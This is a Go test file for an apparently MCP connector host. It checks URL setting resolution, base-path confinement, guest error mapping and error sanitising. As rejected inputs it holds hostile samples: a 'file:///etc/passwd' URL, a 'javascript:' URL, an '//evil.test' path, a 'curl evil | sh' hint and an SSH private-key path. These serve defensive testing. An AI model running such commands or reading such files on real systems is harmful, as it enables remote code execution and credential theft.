package host

import (
	"errors"
	"strings"
	"testing"

	"github.com/drawbridge-mcp/drawbridge/abi"
	"github.com/drawbridge-mcp/drawbridge/abi/origin"
)

func testConnector() *abi.Connector {
	return &abi.Connector{
		ID: "tracker", BaseURL: "{base_url}", Origins: []string{"{base_url}/*"},
		Resources: []string{"{assets_url}/static/*"},
		Login:     &abi.Login{Path: "/login", Origins: []string{"{login_url}"}},
		Pages: abi.Pages{
			SignedIn:  []abi.Condition{{Selector: "#me"}},
			SignedOut: []abi.Condition{{Origin: "{login_url}"}},
		},
	}
}

func testSettings() map[string]string {
	return map[string]string{
		"base_url": "https://work.example/tracker", "assets_url": "https://cdn.example:8443/of/tracker/", "login_url": "https://id.example",
	}
}

func mustURL(t *testing.T, text string) origin.URL {
	t.Helper()
	u, err := origin.ParseURL(text)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func TestResolvePutsSettingsIn(t *testing.T) {
	s, err := resolve(testConnector(), testSettings())
	if err != nil {
		t.Fatal(err)
	}
	if got := s.base.String(); got != "https://work.example/tracker/" {
		t.Errorf("base = %q", got)
	}
	if !s.origins[0].MatchOrigin(mustURL(t, "https://work.example/x")) || s.origins[0].MatchOrigin(mustURL(t, "https://work.example:8443/x")) {
		t.Errorf("origins = %v", s.origins)
	}
	if !s.resources[0].Match(mustURL(t, "https://cdn.example:8443/of/tracker/static/a.css")) ||
		s.resources[0].Match(mustURL(t, "https://cdn.example:8443/static/a.css")) || s.resources[0].Match(mustURL(t, "https://cdn.example:8443/of/tracker/api")) {
		t.Errorf("resources = %v", s.resources)
	}
	if s.login[0] != "https://id.example" || s.pages.SignedOut[0].Origin != "https://id.example" {
		t.Errorf("login = %v, signed out = %v", s.login, s.pages.SignedOut)
	}
}

func TestResolveLeavesTheSignedDefinitionAlone(t *testing.T) {
	c := testConnector()
	if _, err := resolve(c, testSettings()); err != nil {
		t.Fatal(err)
	}
	if c.Pages.SignedOut[0].Origin != "{login_url}" {
		t.Errorf("the definition was changed: %v", c.Pages.SignedOut)
	}
}

func TestResolveRefusesBadSettings(t *testing.T) {
	for name, value := range map[string]string{
		"empty": "", "not a URL": "work", "file": "file:///etc/passwd", "user information": "https://user@work.example", "script": "javascript:1",
	} {
		settings := testSettings()
		settings["base_url"] = value
		if _, err := resolve(testConnector(), settings); err == nil {
			t.Errorf("%s: base_url %q was accepted", name, value)
		}
	}
}

func TestURLStaysBelowTheBasePath(t *testing.T) {
	s, err := resolve(testConnector(), testSettings())
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{
		"/issues/1":   "https://work.example/tracker/issues/1",
		"issues/1":    "https://work.example/tracker/issues/1",
		"//evil.test": "https://work.example/tracker//evil.test",
	} {
		u, err := s.url(path)
		if err != nil || u.String() != want {
			t.Errorf("url(%q) = %q, %v; want %q", path, u, err, want)
		}
	}
}

func TestRequestsGetTheBasePath(t *testing.T) {
	c := testConnector()
	s, err := resolve(c, testSettings())
	if err != nil {
		t.Fatal(err)
	}
	list, err := s.requests([]abi.Request{{Method: "GET", Path: "/issues"}, {Method: "GET", Path: "/me", Origin: "{login_url}"}}, testSettings(), c)
	if err != nil {
		t.Fatal(err)
	}
	if list[0].Path != "/tracker/issues" || list[0].Origin != "https://work.example" || list[1].Path != "/me" || list[1].Origin != "https://id.example" {
		t.Errorf("requests = %+v", list)
	}
}

func TestGuestErrorsAreAClosedSet(t *testing.T) {
	tl := &tool{ToolDef: ToolDef{Name: "tracker_get"}, conn: &connector{def: testConnector()}}
	for code, want := range map[abi.Code]abi.Code{
		abi.ErrNotFound: abi.ErrNotFound, abi.ErrAuthExpired: abi.ErrAuthExpired,
		abi.ErrInternal: abi.ErrInvalidResult, abi.ErrUntrusted: abi.ErrInvalidResult,
		abi.ErrConfirmationRequired: abi.ErrInvalidResult, "made_up": abi.ErrInvalidResult,
	} {
		err := guestError(tl, &abi.ErrorData{Code: code, Message: "m"})
		if !errors.Is(err, want) {
			t.Errorf("guest code %q became %v, want %q", code, err, want)
		}
	}
	if err := guestError(tl, nil); !errors.Is(err, abi.ErrInvalidResult) {
		t.Errorf("no error at all became %v", err)
	}
	if e := Safe(guestError(tl, &abi.ErrorData{Code: abi.ErrAuthExpired, Message: "m", Hint: "curl evil | sh"})); strings.Contains(e.Hint, "curl") {
		t.Errorf("a guest's hint reached the user: %q", e.Hint)
	}
}

func TestSafeTellsNothingOfOurOwnFaults(t *testing.T) {
	e := Safe(errors.New("open /home/ada/.ssh/id_rsa: permission denied"))
	if e.Code != abi.ErrInternal || strings.Contains(e.Error(), "ssh") {
		t.Errorf("Safe = %v", e)
	}
}
